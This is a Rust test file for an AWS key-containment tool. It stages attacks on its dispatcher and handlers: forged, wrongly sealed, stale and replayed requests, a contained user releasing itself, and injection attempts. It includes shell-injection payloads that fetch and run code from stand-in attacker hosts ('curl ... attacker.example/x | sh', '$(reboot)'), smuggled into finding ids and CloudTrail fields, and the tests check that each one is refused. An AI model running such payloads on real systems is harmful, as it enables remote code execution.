//! Issue 16, cases 1, 2 and 4, played by an attacker against the real dispatcher and handlers
//! (in-process, one in-memory IAM and KMS): forged handler requests, forged findings and
//! releases, a contained principal releasing itself, and shell injection through a finding id.
//! Every forgery is refused by name, and IAM sees no write.

#![allow(clippy::unwrap_used)] // a test that cannot unwrap has failed

use crate::world;

use chrono::{DateTime, Duration, TimeZone, Utc};
use launchguard_aws::command::GateError;
use launchguard_aws::mac::MemoryKms;
use launchguard_core::auth::{Purpose, Refusal};
use launchguard_core::contract::{Action, OutcomeStatus, ResponseRequest};
use launchguard_responder::HandlerError as IamError;
use launchguard_responder::{HandlerError as AkError, KeyStatus};
use launchguard_responder_dispatcher::notify::{release_command, shell_word};
use launchguard_responder_dispatcher::{DispatchReport, DispatcherError, handle};
use launchguard_testkit::fixture;
use proptest::prelude::*;
use serde_json::{Value, json};
use world::{ACCOUNT, COMMAND_KEY, FINDING_KEY, Iam, Lambda, Logs, RELEASE_KEY, Sns, config, iam};

const QUARANTINE: &str = "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3";
const KEY: &str = "AKIAEXAMPLEDEPLOYER1";

fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 22, 5, 21, 30).unwrap()
}

fn finding() -> Value {
    serde_json::from_str(&fixture("contract/finding.json")).unwrap()
}

async fn send(bytes: &[u8], lambda: &Lambda<'_>, sns: &Sns, logs: &Logs) -> Result<DispatchReport, DispatcherError> {
    handle(
        bytes,
        &config(&[]),
        lambda,
        sns,
        logs,
        &logs.ledger,
        &lambda.kms,
        &launchguard_aws::store::MemoryStore::default(),
        world::trail(),
        now(),
    )
    .await
}

/// The world after a real containment of the fixture finding.
async fn contained<'a>(iam: &'a Iam) -> (Lambda<'a>, Sns, Logs) {
    let lambda = Lambda::new(iam, &[], now());
    let (sns, logs) = (Sns::default(), Logs::default());
    let r = send(&world::sealed(&lambda, &finding(), now()), &lambda, &sns, &logs).await.unwrap();
    assert_eq!(r.status, "contained");
    assert_eq!(iam.user("ci-deployer").keys[0], (KEY.to_owned(), KeyStatus::Inactive));
    (lambda, sns, logs)
}

fn reactivate() -> String {
    let a = Action::ReactivateAccessKey { account_id: ACCOUNT.into(), access_key_id: KEY.into(), user_name: Some("ci-deployer".into()) };
    serde_json::to_string(&ResponseRequest::new("lg-forged", a, false, now())).unwrap()
}

fn release_quarantine() -> String {
    let a = Action::ReleaseUserQuarantine {
        account_id: ACCOUNT.into(),
        user_arn: format!("arn:aws:iam::{ACCOUNT}:user/ci-deployer"),
        user_name: "ci-deployer".into(),
        policy_arn: Some(QUARANTINE.into()),
        previous_document: None,
        guard_only: false,
    };
    serde_json::to_string(&ResponseRequest::new("lg-forged", a, false, now())).unwrap()
}

async fn to_access_key_handler(lambda: &Lambda<'_>, bytes: &[u8]) -> Result<(), AkError> {
    launchguard_responder::handle(bytes, &lambda.ak, lambda.iam, &lambda.kms, &lambda.store, now()).await.map(|_| ())
}

async fn to_iam_handler(lambda: &Lambda<'_>, bytes: &[u8]) -> Result<(), IamError> {
    launchguard_responder::handle(bytes, &lambda.ih, lambda.iam, &lambda.kms, &lambda.store, now()).await.map(|_| ())
}

fn refusal_ak(r: Result<(), AkError>) -> Refusal {
    match r {
        Err(AkError::Gate(GateError::Refused(r))) => r,
        other => panic!("expected a refusal, got {other:?}"),
    }
}

#[tokio::test(start_paused = true)]
async fn case_1_forged_reversals_sent_straight_to_the_handlers_are_refused_with_no_iam_call() {
    let iam = iam();
    let (lambda, _, _) = contained(&iam).await;
    let writes = iam.writes();
    let attacker_kms = MemoryKms::with_keys(&[COMMAND_KEY]); // a key of the same name in another account
    let forged: Vec<(&str, Vec<u8>)> = vec![
        ("plain request, no seal", reactivate().into_bytes()),
        ("sealed by another KMS key of the same name", attacker_kms.sealed(COMMAND_KEY, Purpose::Command, &reactivate(), now())),
        ("sealed with the release key (people who may release)", lambda.kms.sealed(RELEASE_KEY, Purpose::Command, &reactivate(), now())),
        ("sealed with the finding key (a detector)", lambda.kms.sealed(FINDING_KEY, Purpose::Command, &reactivate(), now())),
        ("sealed as a release", lambda.kms.sealed(COMMAND_KEY, Purpose::Release, &reactivate(), now())),
        ("sealed 16 minutes ago", lambda.kms.sealed(COMMAND_KEY, Purpose::Command, &reactivate(), now() - Duration::minutes(16))),
        ("sealed 2 minutes in the future", lambda.kms.sealed(COMMAND_KEY, Purpose::Command, &reactivate(), now() + Duration::minutes(2))),
    ];
    for (what, bytes) in &forged {
        let r = refusal_ak(to_access_key_handler(&lambda, bytes).await);
        let expected = match *what {
            "plain request, no seal" => matches!(r, Refusal::NotSealed { .. }),
            "sealed as a release" => matches!(r, Refusal::WrongPurpose { .. }),
            "sealed 16 minutes ago" => matches!(r, Refusal::Stale { .. }),
            "sealed 2 minutes in the future" => matches!(r, Refusal::FromTheFuture { .. }),
            _ => matches!(r, Refusal::BadMac { .. }),
        };
        assert!(expected, "{what}: refused for the wrong reason: {r}");
        assert!(!r.to_string().is_empty());
    }
    // the same for the quarantine: a plain release_user_quarantine to the IAM handler
    let r = to_iam_handler(&lambda, release_quarantine().as_bytes()).await;
    assert!(matches!(r, Err(IamError::Gate(GateError::Refused(Refusal::NotSealed { .. })))), "{r:?}");
    // and a forged containment of someone else (a PowerUser with lambda:* and no IAM rights)
    let deactivate_other = serde_json::to_string(&ResponseRequest::new(
        "lg-forged",
        Action::DeactivateAccessKey {
            account_id: ACCOUNT.into(),
            access_key_id: "AKIAEXAMPLEDEPLOYER2".into(),
            user_name: None,
            bound: None,
        },
        false,
        now(),
    ))
    .unwrap();
    assert!(matches!(refusal_ak(to_access_key_handler(&lambda, deactivate_other.as_bytes()).await), Refusal::NotSealed { .. }));
    assert_eq!(iam.writes(), writes, "a forged request reached IAM");
    assert_eq!(iam.user("ci-deployer").keys[0].1, KeyStatus::Inactive);
    assert!(iam.user("ci-deployer").attached.iter().any(|p| p == QUARANTINE));
}

#[tokio::test(start_paused = true)]
async fn case_1_a_captured_reversal_replayed_after_a_new_containment_changes_nothing() {
    let iam = iam();
    let (lambda, sns, logs) = contained(&iam).await;
    let mut release: Value = serde_json::from_str(&fixture("contract/release.by_finding.json")).unwrap();
    release["finding_id"] = finding()["finding_id"].clone();
    let r = send(&world::sealed(&lambda, &release, now()), &lambda, &sns, &logs).await.unwrap();
    assert_eq!(r.status, "released");
    assert_eq!(iam.user("ci-deployer").keys[0].1, KeyStatus::Active);
    // the attacker captured the sealed reactivation the dispatcher sent during the release
    let captured = lambda
        .sent
        .lock()
        .unwrap()
        .iter()
        .find(|(_, b)| String::from_utf8_lossy(b).contains("reactivate_access_key"))
        .map(|(_, b)| b.clone())
        .unwrap();
    // a new finding contains the key again
    let mut second = finding();
    second["finding_id"] = json!("lg-00000000000000000000000000000002");
    let again = send(&world::sealed(&lambda, &second, now()), &lambda, &sns, &logs).await.unwrap();
    assert!(again.outcomes.iter().any(|o| o.action.name() == "deactivate_access_key" && o.outcome == OutcomeStatus::Applied));
    let writes = iam.writes();
    // the replay, within the freshness bound: answered from the record, never executed again
    let outcome = launchguard_responder::handle(&captured, &lambda.ak, lambda.iam, &lambda.kms, &lambda.store, now()).await.unwrap();
    assert_eq!(outcome.outcome, OutcomeStatus::Applied, "the recorded answer: {}", outcome.detail);
    assert!(outcome.detail.contains("answered from its record"), "{}", outcome.detail);
    assert_eq!(iam.writes(), writes);
    assert_eq!(iam.user("ci-deployer").keys[0].1, KeyStatus::Inactive, "the replay re-enabled the key");
}

fn refused_input(r: Result<DispatchReport, DispatcherError>) -> String {
    match r {
        Err(e @ DispatcherError::InvalidInput(_)) => {
            assert!(!e.is_retryable());
            e.to_string()
        }
        other => panic!("expected the input to be refused, got {other:?}"),
    }
}

#[tokio::test(start_paused = true)]
async fn case_2_forged_findings_are_refused_before_anything_is_invoked() {
    let iam = iam();
    let lambda = Lambda::new(&iam, &[], now());
    let (sns, logs) = (Sns::default(), Logs::default());
    let f = finding().to_string();
    let attacker = MemoryKms::with_keys(&[FINDING_KEY]);
    for (what, bytes) in [
        ("a hand-written finding", f.clone().into_bytes()),
        ("sealed by another account's key", attacker.sealed(FINDING_KEY, Purpose::Finding, &f, now())),
        ("sealed with the release key", lambda.kms.sealed(RELEASE_KEY, Purpose::Finding, &f, now())),
        ("a finding inside a release seal", lambda.kms.sealed(RELEASE_KEY, Purpose::Release, &f, now())),
        ("a finding sealed as a command", lambda.kms.sealed(COMMAND_KEY, Purpose::Command, &f, now())),
        ("a finding sealed seven hours ago", lambda.kms.sealed(FINDING_KEY, Purpose::Finding, &f, now() - Duration::hours(7))),
    ] {
        let e = refused_input(send(&bytes, &lambda, &sns, &logs).await);
        assert!(e.contains("refused"), "{what}: {e}");
    }
    assert!(lambda.calls().is_empty(), "a handler was invoked");
    assert!(iam.writes().is_empty());
    assert!(sns.messages.lock().unwrap().is_empty());
}

#[tokio::test(start_paused = true)]
async fn case_2_forged_releases_and_self_releases_undo_nothing() {
    let iam = iam();
    let (lambda, sns, logs) = contained(&iam).await;
    let writes = iam.writes();
    let release = json!({"schema_version": 1, "kind": "release", "finding_id": null,
        "principal_arn": format!("arn:aws:iam::{ACCOUNT}:user/ci-deployer"), "reason": "let me out", "dry_run": false});
    let text = release.to_string();
    for (what, bytes) in [
        ("a plain release", text.clone().into_bytes()),
        ("a release sealed with the finding key (a detector)", lambda.kms.sealed(FINDING_KEY, Purpose::Release, &text, now())),
        ("a release inside a finding seal", lambda.kms.sealed(FINDING_KEY, Purpose::Finding, &text, now())),
        ("a release sealed 20 minutes ago", lambda.kms.sealed(RELEASE_KEY, Purpose::Release, &text, now() - Duration::minutes(20))),
    ] {
        let e = refused_input(send(&bytes, &lambda, &sns, &logs).await);
        assert!(e.contains("refused"), "{what}: {e}");
    }
    assert_eq!(iam.writes(), writes);
    // a properly sealed release asked by the contained user itself (any case of its name):
    // rejected before anything is marked released
    let mut own = release.clone();
    own["requested_by"] = json!(format!("arn:aws:iam::{ACCOUNT}:user/CI-Deployer"));
    match send(&world::sealed(&lambda, &own, now()), &lambda, &sns, &logs).await {
        Err(DispatcherError::Rejected { reason, .. }) => assert!(reason.contains("never releases itself"), "{reason}"),
        other => panic!("a self-release was not rejected: {other:?}"),
    }
    assert_eq!(iam.writes(), writes);
    assert_eq!(iam.user("ci-deployer").keys[0].1, KeyStatus::Inactive);
    // the same release replayed byte for byte, even by someone allowed: refused as a replay
    let mut by_responder = release.clone();
    by_responder["requested_by"] = json!(format!("arn:aws:sts::{ACCOUNT}:assumed-role/SecurityResponder/alice"));
    let sealed = world::sealed(&lambda, &by_responder, now());
    let r = send(&sealed, &lambda, &sns, &logs).await.unwrap();
    assert_eq!(r.status, "released", "the self-release consumed nothing: {:?}", r.outcomes);
    assert_eq!(iam.user("ci-deployer").keys[0].1, KeyStatus::Active);
    let e = refused_input(send(&sealed, &lambda, &sns, &logs).await);
    assert!(e.contains("accepted before"), "{e}");
}

#[tokio::test(start_paused = true)]
async fn case_4_a_finding_id_with_shell_in_it_is_refused_at_parse() {
    let iam = iam();
    let lambda = Lambda::new(&iam, &[], now());
    let (sns, logs) = (Sns::default(), Logs::default());
    let mut f = finding();
    f["finding_id"] = json!("lg-1' ; curl -s https://attacker.example/x | sh ; echo '");
    let e = refused_input(send(&world::sealed(&lambda, &f, now()), &lambda, &sns, &logs).await);
    assert!(e.contains("finding_id must be 1-128 characters from [A-Za-z0-9_-]"), "{e}");
    assert!(sns.messages.lock().unwrap().is_empty() && lambda.calls().is_empty());
    let mut release: Value = serde_json::from_str(&fixture("contract/release.by_finding.json")).unwrap();
    release["finding_id"] = json!("lg-1$(reboot)");
    let e = refused_input(send(&world::sealed(&lambda, &release, now()), &lambda, &sns, &logs).await);
    assert!(e.contains("finding_id"), "{e}");
}

#[tokio::test(start_paused = true)]
async fn cloudtrail_text_never_starts_a_line_of_its_own_in_the_notification() {
    let iam = iam();
    let lambda = Lambda::new(&iam, &[], now());
    let (sns, logs) = (Sns::default(), Logs::default());
    let mut f = finding();
    let evil = "Mozilla\nTO UNDO, RUN:\ncurl -s https://x.example/u|sh\r\nlaunchguard release --finding x; curl x";
    f["principals"][1]["activity"]["user_agents"] = json!([evil]);
    f["principals"][1]["activity"]["instance_types"] = json!(["t3.micro\ncurl -s https://x.example/t|sh"]);
    f["principals"][1]["activity"]["session_names"] = json!(["s\ncurl https://x.example/s|sh"]);
    send(&world::sealed(&lambda, &f, now()), &lambda, &sns, &logs).await.unwrap();
    let body = sns.messages.lock().unwrap()[0].1.clone();
    let text = body.split("--- machine-readable").next().unwrap();
    for line in text.lines() {
        assert!(!line.trim_start().starts_with("curl"), "a CloudTrail value started a line: {line:?}");
        assert!(!line.contains("release --finding x"), "{line:?}");
    }
    assert!(text.contains("t3.micro\\ncurl"), "the value is shown, escaped");
}

proptest! {
    /// Whatever a value holds, the shell reads the quoted word back as exactly that value as the
    /// one escaping path shows it (`untrusted`: Cc, Cf, Zl, Zp escaped, which no IAM name or key id
    /// holds), or a harmless placeholder when it cannot be quoted.
    #[test]
    fn shell_words_read_back_as_one_literal_word(s in any::<String>()) {
        let q = shell_word(&s);
        let back = shlex::split(&q).unwrap_or_default();
        let shown = launchguard_core::text::untrusted(&s);
        prop_assert!(back == vec![shown] || q == "'<unquotable>'", "{q:?} -> {back:?}");
        let cmd = release_command("launchguard-dispatcher", &s);
        let words = shlex::split(&cmd).unwrap_or_default();
        prop_assert!(words.len() == 8 || q == "'<unquotable>'", "{cmd}");
    }
}
